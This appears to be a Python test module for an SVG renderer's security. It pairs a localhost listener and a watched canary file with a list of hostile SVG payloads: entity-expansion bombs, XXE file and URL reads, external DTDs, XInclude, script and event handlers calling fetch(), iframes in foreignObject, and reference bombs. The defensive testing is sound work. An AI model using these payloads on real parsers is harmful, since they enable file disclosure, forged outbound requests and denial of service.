"""Hostile SVG inputs, and the traps that tell whether a renderer fell for one.

Every case is a template: ``{canary}`` is the path of a file the test creates and watches with
inotify (it must never be opened), ``{url}`` an http URL of a listener the test starts on
127.0.0.1 (it must never receive a connection). ``expect`` lists the outcomes a case may end
in: ``ok`` means "a safe render" is acceptable; a tuple without ``ok`` means it must fail typed.
"""

from __future__ import annotations

import os
import select
import socket
import threading
from dataclasses import dataclass

SVG_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
ANY = ("ok", "parse_error", "render_error", "render_timeout")
FAIL = ("parse_error", "render_error", "render_timeout")


def _svg(body: str, attrs: str = 'viewBox="0 0 100 100"') -> str:
    return f'<svg {SVG_NS} {attrs}><rect width="40" height="40" fill="#e11"/>{body}</svg>'


def _nested(tag: str, depth: int) -> str:
    return f"<{tag}>" * depth + '<rect width="5" height="5"/>' + f"</{tag}>" * depth


def _use_bomb(levels: int = 12, fan: int = 8) -> str:
    defs = '<rect id="u0" width="1" height="1"/>'
    for i in range(1, levels + 1):
        defs += f'<g id="u{i}">' + f'<use href="#u{i - 1}"/>' * fan + "</g>"
    return f'<svg {SVG_NS} viewBox="0 0 10 10"><defs>{defs}</defs><use href="#u{levels}"/></svg>'


@dataclass(frozen=True)
class Case:
    name: str
    template: str
    expect: tuple[str, ...] = ANY

    def svg(self, canary: str, url: str) -> str:
        return self.template.replace("{canary}", canary).replace("{url}", url)


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE svg ['
    '<!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + i)} "' + f"&{chr(97 + i)};" * 10 + '">' for i in range(9))
    + f']><svg {SVG_NS} viewBox="0 0 10 10"><text>&j;</text></svg>'
)

CASES: list[Case] = [
    Case("entity_expansion", LAUGHS, FAIL),
    Case("entity_quadratic", '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "' + "x" * 200_000 + '">]>'
         f'<svg {SVG_NS}><text>' + "&a;" * 2000 + "</text></svg>", FAIL),
    Case("xxe_file", f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://{{canary}}">]>'
         f'<svg {SVG_NS} viewBox="0 0 10 10"><text>&x;</text></svg>', FAIL),
    Case("xxe_http", f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "{{url}}/xxe">]>'
         f'<svg {SVG_NS} viewBox="0 0 10 10"><text>&x;</text></svg>', FAIL),
    Case("xxe_parameter_entity", '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % p SYSTEM "{url}/dtd"> %p;]>'
         f'<svg {SVG_NS} viewBox="0 0 10 10"/>'),
    Case("external_dtd", f'<?xml version="1.0"?><!DOCTYPE svg SYSTEM "{{url}}/svg.dtd"><svg {SVG_NS} viewBox="0 0 9 9"/>'),
    Case("external_dtd_file", f'<?xml version="1.0"?><!DOCTYPE svg SYSTEM "file://{{canary}}"><svg {SVG_NS}/>'),
    Case("xinclude", _svg('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{canary}" parse="text"/>'
                          '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}/xinclude"/>')),
    Case("image_href_file", _svg('<image href="file://{canary}" width="50" height="50"/>'
                                 '<image xlink:href="{canary}" width="50" height="50"/>')),
    Case("image_href_http", _svg('<image href="{url}/img.png" width="50" height="50"/>'
                                 '<image xlink:href="{url}/img.svg" width="50" height="50"/>')),
    Case("use_external", _svg('<use href="{url}/ext.svg#a"/><use xlink:href="file://{canary}#a"/>')),
    Case("feimage_external", _svg('<filter id="f"><feImage href="{url}/fe.png"/><feImage xlink:href="file://{canary}"/>'
                                  '</filter><rect width="50" height="50" filter="url(#f)"/>')),
    Case("css_url", _svg('<style>rect { fill: url(file://{canary}#g); } circle { fill: url({url}/css.svg#g); }'
                         '</style><circle r="9" cx="50" cy="50"/>'
                         '<rect style="filter:url({url}/f.svg#f); mask:url(file://{canary}#m)" width="9" height="9"/>')),
    Case("css_import", _svg('<style>@import url({url}/import.css); @import "file://{canary}";'
                            '@font-face { font-family: X; src: url({url}/font.woff); }'
                            'text { font-family: X; }</style><text y="50">abc</text>')),
    Case("xml_stylesheet", f'<?xml version="1.0"?><?xml-stylesheet type="text/css" href="{{url}}/pi.css"?>'
         f'<?xml-stylesheet type="text/css" href="file://{{canary}}"?>' + _svg("")),
    Case("script", _svg('<script>fetch("{url}/script"); new Image().src = "{url}/img";</script>'
                        '<script href="{url}/ext.js"/><script xlink:href="{url}/ext2.js"/>')),
    Case("on_handlers", f'<svg {SVG_NS} viewBox="0 0 100 100" onload="fetch(\'{{url}}/onload\')">'
         '<rect width="40" height="40" onclick="fetch(\'{url}/click\')" onmouseover="fetch(\'{url}/over\')"/>'
         '<a href="javascript:fetch(\'{url}/js\')"><text y="80">x</text></a>'
         '<animate attributeName="x" begin="0s" dur="1s" onbegin="fetch(\'{url}/onbegin\')"/></svg>'),
    Case("foreign_object_iframe", _svg(
        f'<foreignObject width="100" height="100"><div {XHTML}>'
        '<iframe src="{url}/iframe"></iframe><iframe src="file://{canary}"></iframe>'
        '<img src="{url}/fo.png"/><img src="file://{canary}"/>'
        '<link rel="stylesheet" href="{url}/fo.css"/><object data="{url}/obj"></object>'
        '<embed src="{url}/embed"/><video src="{url}/v.mp4" autoplay="autoplay"></video>'
        '<meta http-equiv="refresh" content="0;url={url}/refresh"/>'
        '</div></foreignObject>')),
    Case("animated_href", _svg('<image width="50" height="50" href="data:,"><set attributeName="href" to="{url}/set.png" '
                               'begin="0s"/><animate attributeName="href" values="{url}/a1.png;file://{canary}" '
                               'dur="1s" repeatCount="indefinite"/></image>')),
    Case("huge_canvas", f'<svg {SVG_NS} width="100000" height="100000"><rect width="100000" height="100000" fill="#0a0"/>'
         '<circle cx="50000" cy="50000" r="40000" fill="#00f"/></svg>'),
    Case("huge_filter_region", _svg(
        '<filter id="f" filterUnits="userSpaceOnUse" x="-1000000" y="-1000000" width="2000000" height="2000000">'
        '<feGaussianBlur stdDeviation="5000"/><feMorphology radius="10000"/><feTurbulence baseFrequency="0.9" '
        'numOctaves="1000"/></filter><rect width="50" height="50" filter="url(#f)"/>')),
    Case("deep_nesting", f'<svg {SVG_NS} viewBox="0 0 10 10">' + _nested("g", 100_000) + "</svg>", FAIL),
    Case("deep_nesting_svg", f'<svg {SVG_NS} viewBox="0 0 10 10">' + _nested("svg", 5_000) + "</svg>", FAIL),
    Case("use_bomb", _use_bomb()),
    Case("use_self", f'<svg {SVG_NS} viewBox="0 0 10 10"><g id="x"><use href="#x"/></g><use id="y" href="#y"/>'
         '<use id="p" href="#q"/><use id="q" href="#p"/></svg>'),
    Case("path_25mb", f'<svg {SVG_NS} viewBox="0 0 100 100"><path d="M0 0' + " L1 2 3 4" * 2_700_000 + '"/></svg>',
         ("render_error",)),
    Case("path_7mb", f'<svg {SVG_NS} viewBox="0 0 100 100"><path d="M0 0' + " L1 2 3 4" * 750_000 + '"/></svg>'),
    Case("infinite_animation", _svg(
        '<circle r="9" cx="50" cy="50"><animate id="a" attributeName="r" from="1" to="40" dur="0.01s" '
        'begin="0;b.end" repeatCount="indefinite"/><animate id="b" attributeName="cx" from="1" to="90" dur="0.01s" '
        'begin="a.end"/></circle><style>@keyframes k { to { transform: rotate(360deg) } } '
        'rect { animation: k 0.001s infinite linear; }</style>')),
    Case("malformed_utf8", (b"<svg " + SVG_NS.encode() + b'><text y="9">\xff\xfe\xc3\x28 \xed\xa0\x80</text></svg>')
         .decode("utf-8", "surrogateescape"), ("parse_error",)),
    Case("empty", "", ("parse_error",)),
    Case("whitespace_only", " \n\t ", ("parse_error",)),
    Case("non_xml_prose", "Sure! Here is your SVG: a red square on a white background.", ("parse_error",)),
    Case("non_xml_json", '{"svg": "<svg/>", "width": 10}', ("parse_error",)),
    Case("binary_garbage", bytes(range(256)).decode("latin-1") * 40, ("parse_error",)),
    Case("html_not_svg", f'<html><body><img src="{{url}}/html.png"/><iframe src="file://{{canary}}"/></body></html>'),
]


class Listener:
    """A TCP listener on 127.0.0.1 that records every connection made to it (there must be none)."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.port = self.sock.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self.hits: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            ready, _, _ = select.select([self.sock], [], [], 0.1)
            if not ready:
                continue
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            conn.settimeout(0.5)
            try:
                data = conn.recv(4096)
            except OSError:
                data = b""
            self.hits.append(data or b"<connection>")
            try:
                conn.sendall(b"HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n\r\n")
            except OSError:
                pass
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(2)
        self.sock.close()


class Canary:
    """A file with a secret in it, watched with inotify for any open or read (there must be none)."""

    def __init__(self, folder: str) -> None:
        from inotify_simple import INotify, flags

        self.path = os.path.join(folder, "canary-secret.txt")
        with open(self.path, "w") as fh:
            fh.write("svgarena-canary-secret\n")
        self._inotify = INotify()
        self._mask = flags.OPEN | flags.ACCESS
        self._inotify.add_watch(self.path, self._mask)
        self._flags = flags

    def events(self) -> list[str]:
        """Opens and reads seen since the last call."""
        out = []
        for event in self._inotify.read(timeout=0):
            out += [str(f) for f in self._flags.from_mask(event.mask)]
        return out

    def close(self) -> None:
        self._inotify.close()
